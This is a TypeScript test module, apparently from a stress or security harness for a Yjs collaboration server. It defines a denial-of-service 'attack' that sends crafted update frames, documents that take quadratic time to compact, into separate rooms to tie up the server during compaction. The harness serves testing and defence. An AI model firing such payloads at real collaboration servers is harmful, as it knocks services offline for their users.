import { quadraticUpdate } from "../../../support/expensive-documents.ts";
import { encodeRaw } from "../../../support/raw-messages.ts";
import type { Attack } from "../attack.ts";
import { frame } from "../raw-socket.ts";

const BOMB = frame(encodeRaw({ type: "update", update: quadraticUpdate(30_000) }));

/** Each document is 357 KB, and takes Yjs minutes to integrate during compaction. */
export const attack: Attack = {
  name: "documents that take quadratic time to compact, each in its own room",
  settings: { SNAPSHOT_INTERVAL_MS: "1000", UNLOAD_DELAY_MS: "1000" },
  connections: [2],
  seconds: 6,
  run: async (target) => {
    const clients = await target.connectAll((index) => target.room(`bomb-${index}`));
    for (const client of clients) client.write(BOMB);
    while (!target.over) await target.pause(100);
  },
};
